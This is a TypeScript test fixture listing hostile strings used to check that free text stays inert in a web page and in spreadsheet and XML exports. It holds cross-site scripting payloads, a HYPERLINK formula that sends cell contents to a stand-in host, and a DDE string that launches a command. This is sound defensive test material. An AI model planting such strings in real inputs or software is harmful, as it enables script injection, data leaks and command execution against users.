/**
 * Free text that must stay text: markup that runs script if it is ever parsed
 * as HTML or SVG (each sets `window.__hostile` to its number), text a
 * spreadsheet runs as a formula, XML that would close an element early, and
 * right-to-left script. The hostile-text site (hostile-site.ts) and the export
 * tests use them.
 */
export const HOSTILE_TEXTS: readonly string[] = [
	'<img src=x onerror="window.__hostile=1">',
	'<script>window.__hostile=2</script>',
	'"><svg onload="window.__hostile=3"> after the quote',
	'=HYPERLINK("https://example.invalid/?"&A1,"click")',
	"+1+cmd|' /C calc'!A0",
	'-2+3 needs a formula guard',
	'@SUM(1+1)',
	'اعتماد قانون لمكافحة تمويل الإرهاب <b>قبل</b> 2026',
	'Mixed ltr then עברית then ltr ]]></text><script>window.__hostile=9</script>'
];

/** The first characters a spreadsheet reads as a formula. */
export const FORMULA_START = /^[=+\-@]/;
